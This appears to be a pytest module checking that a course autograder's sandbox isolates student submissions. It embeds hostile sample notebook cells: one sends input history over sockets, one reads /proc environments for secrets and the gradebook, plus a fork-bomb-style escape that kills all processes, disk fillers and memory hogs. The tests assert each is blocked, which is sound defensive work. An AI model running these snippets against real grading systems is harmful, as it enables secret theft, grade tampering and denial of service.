"""``course grade`` isolates each submission: no network, no other processes, nothing left behind,
bounded memory, disk and processes, no secrets in reach (bubblewrap + a cgroup per submission).

One class is graded once with one worker (``-j 1``), so that every submission after an attacker is
graded by the same worker process that graded the attacker. Each attack prints what it managed; the
test reads the autograded notebook and the host's state.
"""

import os
import re
import socket
import threading

import nbformat
import pytest
from support.course import copy_course
from support.grading import fresh_submitted, grading_lock, leftovers, run_course, solved_notebook

from course.assignment import ASSIGNMENT, EXERCISES, NOTEBOOK_FILE
from course.batch import cgroups
from course.batch.worker import Limits
from course.results.scores import exercise_scores

pytestmark = [pytest.mark.slow, pytest.mark.root]

#: The submission's memory limit (course grade's default): each process's address space and the cgroup's.
MEMORY_MB = Limits.memory_mb
DISK_MB = 64

NETWORK = r"""
import socket
for address in [("127.0.0.1", {port}), ("localhost", {port}), ("10.0.2.2", 80)]:
    try:
        connection = socket.create_connection(address, timeout=2)
        connection.sendall(b"stolen: " + repr(In).encode())
        print("NET OPEN", address)
    except OSError as error:
        print("NET blocked", address, type(error).__name__)
"""

PROCESSES = r"""
import os
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("PIDS", len(pids))
seen = []
for pid in pids:
    for name in ("cmdline", "environ"):
        try:
            with open("/proc/{{}}/{{}}".format(pid, name), "rb") as handle:
                seen.append(handle.read().decode(errors="replace"))
        except OSError:
            pass
seen.append(repr(dict(os.environ)))
print("SECRET", "FOUND" if any({secret!r} in text for text in seen) else "absent")
print("GRADER", "FOUND" if any("--db" in text for text in seen) else "absent")
for path in ({db!r}, "../../../gradebook.db"):
    try:
        open(path, "rb").read(1)
        print("DB OPEN", path)
    except OSError as error:
        print("DB blocked", type(error).__name__)
for path in ({source!r}, "../../../source", "/home"):  # the class's source/, the private course's
    try:
        print("LIST OPEN", path, os.listdir(path)[:3])
    except OSError as error:
        print("LIST blocked", path, type(error).__name__)
"""

FORKER = r"""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        start = time.time()
        while True:  # a new pid every few milliseconds: a single sweep over /proc cannot catch it
            if os.fork():
                os._exit(0)
            if time.time() - start > 15:  # by now the next student of this worker is being graded
                try:
                    os.kill(-1, signal.SIGKILL)
                except OSError:
                    pass
            time.sleep(0.005)
    os._exit(0)
print("FORKER started")
"""

DISK = r"""
import os, sys
kernel_folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # where the kernel's sockets are
def fill(folder):
    written, block = 0, b"x" * 2**20
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as handle:
            for _ in range(4096):
                handle.write(block)
                handle.flush()
                written += 1
    except OSError as error:
        return "{{}} MiB then {{}}".format(written, type(error).__name__ if error.errno != 28 else "ENOSPC")
    return "{{}} MiB without error".format(written)
def many(folder):
    count = 0
    try:
        for count in range(1, 200):
            with open(os.path.join(folder, "part{{}}.bin".format(count)), "wb") as handle:
                handle.write(b"y" * 2**20)
    except OSError as error:
        return "{{}} files then {{}}".format(count, "ENOSPC" if error.errno == 28 else type(error).__name__)
    return "{{}} files without error".format(count)
print("DISK cwd", fill("."))
print("DISK tmp", fill("/tmp"))
print("DISK tmp-many", many("/tmp/"))
print("DISK shm", fill("/dev/shm"))
print("DISK kernel folder", fill(kernel_folder))
"""

HOG_CHILDREN = r"""
import os, time
children = []
for _ in range(6):
    pid = os.fork()
    if pid == 0:
        try:
            data = b"z" * ({child_mb} * 2**20)  # written, so resident: six of them are over the limit
            time.sleep(5)
        finally:
            os._exit(0)
    children.append(pid)
statuses = [os.waitpid(pid, 0)[1] for pid in children]
print("HOG children killed", sum(os.WIFSIGNALED(s) and os.WTERMSIG(s) == 9 for s in statuses), "of", len(children))
"""

HOG_KERNEL = r"""
import os, time
for _ in range(4):
    if os.fork() == 0:
        try:
            held = b"h" * ({child_mb} * 2**20)
            time.sleep(60)
        finally:
            os._exit(0)
with open("/proc/self/oom_score_adj", "w") as handle:
    handle.write("1000")  # the kernel itself, not a child, is the one the memory limit stops
grown = []
while True:
    grown.append(b"g" * (50 * 2**20))
"""


def notebook_output(root, student):
    """All text the code cells of ``student``'s autograded notebook printed or raised."""
    path = root / "autograded" / student / ASSIGNMENT / NOTEBOOK_FILE
    notebook = nbformat.read(str(path), as_version=4)
    parts = []
    for cell in notebook.cells:
        for output in cell.get("outputs", []) if cell.cell_type == "code" else []:
            parts.append(output.get("text", "") + output.get("evalue", ""))
    return "\n".join(parts)


class Listener:
    """A TCP server on the host's 127.0.0.1 that records whatever connects to it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received, self.stopped = [], threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stopped.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                self.received.append(connection.recv(65536))

    def close(self):
        self.stopped.set()
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def isolated_class(tmp_path_factory):
    root = copy_course(tmp_path_factory.mktemp("isolation") / "course")
    secret = "gradebook-secret-{}".format(os.getpid())
    db = root / "{}.db".format(secret)
    listener = Listener()
    extra = {
        "s01_network": NETWORK.format(port=listener.port),
        "s02_processes": PROCESSES.format(secret=secret, db=str(db), source=str(root / "source")),
        "s03_forker": FORKER,
        "s05_disk": DISK.format(),
        "s06_hog_children": HOG_CHILDREN.format(child_mb=MEMORY_MB // 4),
        "s07_hog_kernel": HOG_KERNEL.format(child_mb=MEMORY_MB // 5),
    }
    notebooks = {student: solved_notebook(root, extra_cells=[code]) for student, code in extra.items()}
    notebooks["s04_after_forker"] = solved_notebook(root)
    fresh_submitted(root, notebooks)
    options = ["--disk-mb", str(DISK_MB), "--timeout", "120"]
    with grading_lock(exclusive=True):  # no other test grades meanwhile: what is left is this run's
        result = run_course(root, "grade", "-j", "1", "--db", "sqlite:///{}".format(db), *options, lock=False)
        left = leftovers()
    listener.close()
    return {
        "root": root,
        "result": result,
        "listener": listener,
        "scores": exercise_scores("sqlite:///{}".format(db)),
        "students": sorted(notebooks),
        "left": left,
    }


def core_points(row):
    return sum(row[exercise][0] for exercise in EXERCISES)


def test_instructor_isolation_every_student_keeps_full_marks(isolated_class):
    """The attacks cost their authors nothing on the exercises and nobody else anything."""
    result, scores = isolated_class["result"], isolated_class["scores"]
    assert sorted(scores) == isolated_class["students"], result.stdout + result.stderr[-3000:]
    assert {student: core_points(row) for student, row in scores.items()} == dict.fromkeys(scores, 10)


def test_instructor_isolation_no_network(isolated_class):
    output = notebook_output(isolated_class["root"], "s01_network")
    assert output.count("NET blocked") == 3 and "NET OPEN" not in output, output
    assert isolated_class["listener"].received == []


def test_instructor_isolation_proc_shows_only_the_submission(isolated_class):
    """/proc lists the sandbox's own few processes; the grader's command line (with the gradebook URL),
    its environment, the gradebook file and source/ are out of reach."""
    output = notebook_output(isolated_class["root"], "s02_processes")
    count = int(re.search(r"PIDS (\d+)", output).group(1))
    assert 1 <= count <= 5, output
    assert "SECRET absent" in output and "GRADER absent" in output, output
    assert output.count("DB blocked FileNotFoundError") == 2, output
    assert "LIST OPEN" not in output and output.count("LIST blocked") == 3, output


def test_instructor_isolation_nothing_outlives_its_submission(isolated_class):
    """A child that re-forks every few milliseconds is gone with its submission: the next student graded
    by the same worker keeps full marks, and no sandbox process is left on the machine."""
    output = notebook_output(isolated_class["root"], "s03_forker")
    assert "FORKER started" in output
    assert core_points(isolated_class["scores"]["s04_after_forker"]) == 10
    assert isolated_class["left"]["processes"] == []


def test_instructor_isolation_disk_is_bounded(isolated_class):
    """Writing stops with 'No space left on device' at the tmpfs sizes (half of --disk-mb each, a few
    MiB for /dev/shm); nothing is written to the grader's disk or copied back to autograded/."""
    output = notebook_output(isolated_class["root"], "s05_disk")
    half = DISK_MB // 2
    for place, limit in (("cwd", half), ("tmp", half), ("shm", 8)):
        written = re.search(r"DISK {} (\d+) MiB then ENOSPC".format(place), output)
        assert written and int(written.group(1)) <= limit, output
    assert re.search(r"DISK tmp-many \d+ files then ENOSPC", output), output
    # the folder of the kernel's sockets is on the grader's disk: sealed once the kernel is ready
    assert "DISK kernel folder 0 MiB then PermissionError" in output, output
    folder = isolated_class["root"] / "autograded" / "s05_disk" / ASSIGNMENT
    assert not (folder / "fill.bin").exists()


def test_instructor_isolation_memory_of_all_processes_together_is_bounded(isolated_class):
    """Six forked children of a quarter of the memory limit each (far under the per-process limit)
    exceed the submission's limit together: the cgroup's limit stops some of them."""
    assert cgroups.parents() is not None, "this machine (root, Linux) offers no writable cgroup hierarchy"
    output = notebook_output(isolated_class["root"], "s06_hog_children")
    killed = re.search(r"HOG children killed (\d) of 6", output)
    assert killed and int(killed.group(1)) >= 1, output


def test_instructor_isolation_kernel_over_memory_is_named_in_feedback(isolated_class):
    """The kernel itself stopped by the submission's memory limit: the cell says so, in both languages."""
    output = notebook_output(isolated_class["root"], "s07_hog_kernel")
    assert "went over the memory limit of this submission" in output, output
    assert "超出了本次提交的内存上限" in output


def test_instructor_isolation_leaves_no_cgroup_and_no_workspace(isolated_class):
    assert cgroups.parents() is not None, "this test needs a writable cgroup (run as root)"
    assert isolated_class["left"]["cgroups"] == []
    assert isolated_class["left"]["workspaces"] == []
